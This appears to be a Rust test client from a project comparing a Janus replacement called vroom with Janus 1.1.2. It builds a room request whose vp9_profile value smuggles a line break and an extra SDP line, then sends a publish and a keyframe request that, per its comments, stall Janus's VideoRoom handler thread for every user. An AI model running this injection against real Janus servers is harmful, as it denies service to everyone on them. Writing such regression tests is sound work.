//! The client that stalls Janus 1.1.2 (JCB-04 in the reference's list of Janus races): it
//! creates a room whose `vp9_profile` holds a line break, publishes VP9 into it and asks for a
//! keyframe. Janus copies the profile into its answer, its core refuses the `a=msid:x` that
//! the line break injected and returns with the handle's mutex held, and the `configure` with
//! `keyframe: true` then blocks the VideoRoom's only handler thread: no asynchronous VideoRoom
//! request from anyone is answered again. vroom refuses the room (430) and keeps serving.
//!
//! No media is needed: the offer is a fixed SDP, and nothing here waits for ICE.

use serde_json::{json, Value};

use super::client::Client;

/// What the poison client saw, step by step (for the report).
pub async fn poison(url: &str, room: u64) -> Value {
    let requests = std::sync::Arc::new(super::client::Requests::default());
    let (client, _events) = match Client::connect(url, requests).await {
        Ok(c) => c,
        Err(e) => return json!({ "connect": e }),
    };
    let mut seen = serde_json::Map::new();
    let Ok(s) = client.create().await else { return json!({ "create": "failed" }) };
    let Ok(h) = client.attach(s, "janus.plugin.videoroom").await else { return json!({ "attach": "failed" }) };
    let create =
        json!({ "request": "create", "room": room, "videocodec": "vp9", "vp9_profile": "0;max-fr=60\r\na=msid:x" });
    let outcome = |r: Result<Value, super::client::RequestError>| match r {
        Ok(v) => v["plugindata"]["data"].clone(),
        Err(e) => Value::String(e.to_string()),
    };
    seen.insert("create".into(), outcome(client.message("create room", s, h, create).await));
    let join = json!({ "request": "joinandconfigure", "ptype": "publisher", "room": room, "display": "poison" });
    let offer = json!({ "type": "offer", "sdp": VP9_OFFER });
    // Janus 1.1.2 never answers these two (its core refused the answer it wrote): each gets 5 s.
    let within_5_s = |request| async move {
        match tokio::time::timeout(super::client::UNANSWERED, request).await {
            Ok(r) => outcome(r),
            Err(_) => Value::String("no answer in 5 s".into()),
        }
    };
    let publish = client.message_async("publish", s, h, join, Some(offer));
    seen.insert("publish".into(), within_5_s(publish).await);
    let keyframe = json!({ "request": "configure", "keyframe": true });
    seen.insert("keyframe".into(), within_5_s(client.message_async("configure", s, h, keyframe, None)).await);
    // The session stays: a stalled Janus would not destroy it anyway.
    Value::Object(seen)
}

/// A VP9 publisher's offer with `profile-id=0;max-fr=60`, the profile the poisoned room names.
const VP9_OFFER: &str = "v=0\r\no=- 4215775240449105457 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n\
a=group:BUNDLE 0\r\na=msid-semantic: WMS s\r\n\
m=video 9 UDP/TLS/RTP/SAVPF 98\r\nc=IN IP4 0.0.0.0\r\na=mid:0\r\na=sendonly\r\na=rtcp-mux\r\n\
a=rtpmap:98 VP9/90000\r\na=fmtp:98 profile-id=0;max-fr=60\r\na=rtcp-fb:98 nack pli\r\n\
a=msid:s t\r\na=ssrc:1111 cname:poison\r\n\
a=ice-ufrag:abcd\r\na=ice-pwd:0123456789abcdef0123456789\r\n\
a=fingerprint:sha-256 00:11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF:00:11:22:33:44:55:66:77:88:99:AA:BB:CC:DD:EE:FF\r\n\
a=setup:actpass\r\n";
